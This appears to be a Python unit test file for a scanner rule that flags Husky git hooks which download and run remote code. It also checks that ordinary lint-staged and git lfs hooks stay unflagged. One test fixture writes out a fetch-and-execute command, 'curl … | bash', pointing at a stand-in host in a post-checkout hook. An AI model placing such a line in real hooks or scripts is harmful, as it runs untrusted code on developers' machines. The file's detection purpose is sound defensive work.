from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.husky_hook import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def test_a_hook_that_fetches() -> None:
    assert graded(".husky/post-checkout", "npx x\ncurl -s https://a.invalid/x | bash\n") == [
        (2, Severity.HIGH, Confidence.HIGH)
    ]


def test_ordinary_hooks() -> None:
    for text in (
        "npx lint-staged\n",
        '#!/bin/sh\n. "$(dirname "$0")/_/husky.sh"\n\nyarn lint-staged\n',
        'git lfs pre-push "$@"',
    ):
        assert graded(".husky/pre-commit", text) == []
